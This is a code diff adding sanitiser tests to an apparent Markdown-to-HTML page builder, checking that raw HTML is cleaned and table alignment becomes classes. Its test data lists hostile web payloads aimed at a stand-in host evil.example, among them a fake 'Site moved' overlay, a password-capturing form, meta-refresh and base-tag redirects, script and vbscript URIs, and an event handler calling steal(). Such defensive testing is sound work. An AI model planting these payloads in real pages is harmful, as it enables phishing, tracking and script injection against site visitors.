@@ -65,6 +65,36 @@ def test_raw_html_is_sanitised_by_default(tmp_path):
     assert '<a href="https://www.hee.nhs.uk/">ok</a>' in html
 
 
+@pytest.mark.parametrize("raw, forbidden", [
+    ('<table><tr><td style="position:fixed;inset:0;z-index:9999;background:#fff url(http://evil.example/x)">'
+     'Site moved</td></tr></table>', ("style", "position:fixed", "evil.example")),
+    ('<p style="background:url(https://evil.example/track)">x</p>', ("style", "evil.example")),
+    ('<iframe src="https://evil.example/"></iframe>', ("<iframe", "evil.example")),
+    ('<form action="https://evil.example/"><input name="password"></form>', ("<form", "<input", "evil.example")),
+    ('<style>body { display: none }</style>', ("<style", "display: none")),
+    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', ("data:",)),
+    ('<a href="vbscript:msgbox(1)">x</a>', ("vbscript:",)),
+    ('<svg><script>alert(1)</script></svg>', ("<svg", "<script")),
+    ('<object data="https://evil.example/x.swf"></object>', ("<object", "evil.example")),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ("<meta", "evil.example")),
+    ('<base href="https://evil.example/">', ("<base", "evil.example")),
+    ('<div role="region" tabindex="0" aria-label="x" onmouseover="steal()">x</div>', ("onmouseover",)),
+])
+def test_each_dangerous_construct_is_removed_by_the_sanitiser(tmp_path, raw, forbidden):
+    html = page(tmp_path, GOOD + raw + "\n\nAfter.\n").html
+    for text in forbidden:
+        assert text not in html
+    assert "After." in html
+
+
+def test_markdown_column_alignment_survives_as_a_class_not_a_style(tmp_path):
+    html = page(tmp_path, GOOD + "| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |\n").html
+    assert "style" not in html
+    assert '<td class="align-left">1</td>' in html
+    assert '<td class="align-right">2</td>' in html
+    assert '<th class="align-center" scope="col">c</th>' in html
+
+
 def test_allow_raw_html_trusts_the_authors(tmp_path):
     html = page(tmp_path, GOOD + '<div class="x" data-note="kept">Kept</div>\n', raw=True).html
     assert 'data-note="kept"' in html
